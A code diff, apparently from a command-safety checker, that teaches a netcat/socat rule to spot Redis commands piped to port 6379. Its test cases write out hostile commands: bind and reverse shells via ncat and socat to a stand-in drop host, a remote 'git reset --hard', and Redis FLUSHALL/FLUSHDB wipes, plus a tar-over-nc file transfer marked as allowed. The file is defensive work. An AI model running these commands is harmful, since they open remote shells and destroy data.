@@ -1,3 +1,4 @@
+import type { Analysis } from '../analysis.ts';
 import { hasOption, optionValue, type Call } from '../call.ts';
 import type { Effect } from '../effect.ts';
 import { isPrivateHost } from '../http/destinations.ts';
@@ -17,6 +18,8 @@ export const rule: Rule = {
   safeOptions: ['-h', '-z'],
   operations: [],
   inspect: (call, analysis) => {
+    const commands = redisCommands(call, analysis);
+    if (commands.length > 0) return commands;
     const served = optionValue(call, '-e', '--exec', '-c', '--sh-exec');
     if (served && isKnown(served) && !shell.test(served.text)) return analysis.shell(served.text, placeOf(call.invocation));
     const socat = call.invocation.program === 'socat';
@@ -36,10 +39,20 @@ export const rule: Rule = {
       { command: 'ncat -lp 4444 --sh-exec "bash -i"', by: 'shell' },
       { command: 'socat TCP:drop.example.com:4444 EXEC:bash,pty', by: 'shell' },
       { command: "ncat -l 4444 --sh-exec 'git reset --hard'", by: 'git/reset-hard' },
+      { command: 'echo FLUSHALL | nc cache.internal 6379', by: 'redis/flushall' },
+      { command: `printf 'FLUSHALL\\r\\n' | ncat localhost 6379`, by: 'redis/flushall' },
+      { command: 'echo FLUSHDB | socat - TCP:cache.internal:6379', by: 'redis/flushdb' },
     ],
-    passes: ['nc -zv db.example.com 5432', "ncat -l 4444 --sh-exec 'date'", 'echo PING | nc cache.example.com 6379', 'nc -l 8080', 'nc drop.example.com 4444', 'nc localhost 9000 < request.txt', 'socat TCP-LISTEN:8080,fork TCP:localhost:80', 'socat - UNIX-CONNECT:/var/run/app.sock', 'tar c src | nc 192.168.1.7 4444'],
+    passes: ['nc -zv db.example.com 5432', "ncat -l 4444 --sh-exec 'date'", 'echo PING | nc cache.example.com 6379', 'nc -l 8080', 'nc drop.example.com 4444', 'nc localhost 9000 < request.txt', 'socat TCP-LISTEN:8080,fork TCP:localhost:80', 'socat - UNIX-CONNECT:/var/run/app.sock', 'tar c src | nc 192.168.1.7 4444', 'printf "GET a\\r\\n" | nc cache.internal 6379'],
   },
 };
+
+/** Redis takes its commands as they are typed: `echo FLUSHALL | nc cache 6379`. */
+function redisCommands(call: Call, analysis: Analysis): readonly Effect[] {
+  const { stdin } = call.invocation;
+  const [host, port] = call.invocation.program === 'socat' ? (/\btcp\d?(?:-connect)?:([^:,]+):(\d+)/i.exec(call.operands.map(({ text }) => text).join(' '))?.slice(1) ?? []) : call.operands.map(({ text }) => text);
+  return port === '6379' && host !== undefined && stdin ? analysis.sql(stdin.text, { client: 'redis-cli', connection: host }, placeOf(call.invocation)) : [];
+}
 
 function plainHost(call: Call): string | undefined {
   return hasOption(call, '-l', '--listen', '-lp', '-U') ? undefined : call.operands[0]?.text.toLowerCase();
